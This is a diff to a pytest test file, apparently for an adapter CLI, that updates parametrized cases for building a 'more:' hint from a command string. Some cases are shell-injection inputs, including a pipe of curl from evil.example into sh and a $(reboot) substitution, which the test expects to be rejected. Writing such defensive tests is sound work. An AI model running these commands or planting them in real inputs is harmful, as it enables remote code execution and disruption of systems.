@@ -149,10 +149,10 @@ def test_what_is_remembered_of_names_is_bounded() -> None:
 @pytest.mark.parametrize(
     ("command", "named"),
     [
-        ("pods/rps -n shop", " (more: tidewatch-adapter explain pods/rps -n shop)"),
+        ("adapter explain pods/rps -n shop", " (more: adapter explain pods/rps -n shop)"),
         ("", ""),
-        ("x; curl evil.example | sh -n shop", ""),
-        ("$(reboot) -n shop", ""),
+        ("adapter explain x; curl evil.example | sh -n shop", ""),
+        ("adapter explain $(reboot) -n shop", ""),
         ("a\nb -n shop", ""),
         ("x" * 500, ""),
     ],
